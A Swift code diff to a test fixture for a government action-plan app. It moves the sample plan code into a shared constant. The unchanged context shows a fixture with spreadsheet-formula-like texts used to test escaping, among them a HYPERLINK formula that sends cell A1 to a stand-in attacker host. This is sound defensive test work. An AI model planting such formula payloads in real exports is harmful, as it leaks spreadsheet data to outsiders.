@@ -7,7 +7,9 @@ enum SamplePlan {
     static let otherAgency = OrganisationRecord(name: "Badan Contoh Data", acronym: nil, kind: .governmentAgency)
     static let cso = OrganisationRecord(name: "Perkumpulan Warga Contoh", acronym: "PWC", kind: .civilSociety)
 
-    static func document(code: String = "contoh-2030-2032") -> PlanDocument {
+    static let code = "contoh-2030-2032"
+
+    static func document(code: String = SamplePlan.code) -> PlanDocument {
         let start = YearMonth(iso: "2031-01")!
         return PlanDocument(
             code: code, title: "Rencana Aksi Contoh 2030-2032", periodStart: start, periodEnd: YearMonth(iso: "2032-12")!,
@@ -56,7 +58,7 @@ enum SamplePlan {
 
     /// The sample plan with texts a spreadsheet would run as formulas, and texts that start with a quote of their own.
     /// The B06 target of commitment 1's first measure keeps its text (the reporting tests look it up by it).
-    static func withFormulaLikeTexts(code: String = "contoh-2030-2032") -> PlanDocument {
+    static func withFormulaLikeTexts(code: String = SamplePlan.code) -> PlanDocument {
         var document = document(code: code)
         document.title = #"=HYPERLINK("https://jahat.example/?d="&A1,"Rencana")"#
         document.commitments[0].title = "+SUM(1,2)"
